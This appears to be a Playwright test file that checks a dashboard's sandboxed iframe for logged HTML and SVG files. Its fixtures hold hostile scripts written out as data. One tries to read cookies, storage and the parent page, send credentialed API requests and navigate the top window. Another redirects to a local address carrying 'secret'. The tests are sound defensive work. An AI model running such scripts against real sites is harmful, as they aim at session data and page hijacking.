"""Logged HTML and SVG: its scripts run, but reach neither the page around it, nor cookies, the API or a network."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.support import wait_until
from tests.ui.browser import Dashboard, Pages
from tests.ui.conftest import Serve
from tests.unit.run_builder import RunBuilder

HOSTILE = """<!doctype html><p id=ran>no</p><pre id=seen></pre><script>
document.getElementById("ran").textContent = "scripts run";
const seen = [];
const attempt = (name, act) => {
  try { seen.push(`${name}: ${act()}`) } catch (error) { seen.push(`${name}: refused`) }
};
attempt("origin", () => window.origin);
attempt("parent", () => parent.document.title);
attempt("write", () => { parent.document.title = "ran"; return "written" });
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("top", () => { top.location = "about:blank"; return "left" });
attempt("popup", () => String(open("about:blank")));
const ask = (name, url, options) =>
  fetch(url, options).then(() => seen.push(`${name}: answered`), () => seen.push(`${name}: refused`));
Promise.all([
  ask("read", "/api/v1/runs", { credentials: "include" }),
  ask("blind", "/api/v1/edits", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }),
  ask("elsewhere", "http://127.0.0.1:9/x"),
  new Promise(done => {
    const image = new Image();
    image.onload = image.onerror = event => { seen.push(`image: ${event.type}`); done() };
    image.src = "/favicon.ico?leak";
  }),
]).then(() => {
  document.getElementById("seen").textContent = seen.sort().join("\\n");
});
</script>"""

SEEN = """blind: refused
cookie: refused
elsewhere: refused
image: error
origin: null
parent: refused
popup: null
read: refused
storage: refused
top: refused
write: refused"""

POLICY = "Content Security Policy|sandbox|Unsafe attempt|Blocked opening|policy: |violates the following"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    place = tmp_path / "root"
    run = RunBuilder(place, "framed01", name="framed")
    run.row(0, None, loss=1.0)
    run.finish()
    (run.dir / "files").mkdir()
    (run.dir / "files" / "hostile.html").write_text(HOSTILE)
    (run.dir / "files" / "leaves.html").write_text("<script>location = 'http://127.0.0.1:9/?secret'</script>")
    (run.dir / "files" / "picture.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><text id="t" y="20">drawn</text>'
        "<script>document.getElementById('t').textContent = 'svg ' + window.origin</script></svg>"
    )
    return place


def test_hostile_html_in_a_frame(serve: Serve, pages: Pages, root: Path) -> None:
    page = pages.open(serve(root), "#/run/framed01/files")
    pages.problems_of(page).expect(POLICY)
    page.get_by_role("button", name="hostile.html", exact=True).click()
    frame = page.frame_locator("iframe.file-frame")
    expect(frame.locator("#ran")).to_have_text("scripts run")
    expect(frame.locator("#seen")).to_have_text(SEEN)
    assert page.title() != "ran"
    page.get_by_role("button", name="Source", exact=True).click()
    expect(page.locator(".file-view pre")).to_contain_text("<!doctype html>")
    expect(page.locator("iframe")).to_have_count(0)


def test_a_frame_cannot_navigate_away(serve: Serve, pages: Pages, root: Path) -> None:
    page = pages.open(serve(root), "#/run/framed01/files")
    pages.problems_of(page).expect(POLICY)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.get_by_role("button", name="leaves.html", exact=True).click()
    wait_until(lambda: any("frame-src" in one for one in page.evaluate("window.violations")), "the violation")
    assert not any("secret" in url for url in asked)


def test_svg_in_a_frame(serve: Serve, pages: Pages, root: Path) -> None:
    page = pages.open(serve(root), "#/run/framed01/files")
    page.get_by_role("button", name="picture.svg", exact=True).click()
    expect(page.frame_locator("iframe.file-frame").locator("#t")).to_have_text("svg null")


def test_the_address_of_a_frame_in_a_tab_of_its_own(serve: Serve, pages: Pages, root: Path) -> None:
    ui: Dashboard = serve(root)
    page = pages.open(ui, "#/run/framed01/files")
    pages.problems_of(page).expect("403|favicon")
    expect(page.locator(".file-table")).to_be_visible()
    answer = page.goto(f"{ui.origin}/api/v1/runs/framed01/frames/0")
    assert answer is not None and answer.status == 403
    page.close()  # the browser's own view of JSON breaks our policy
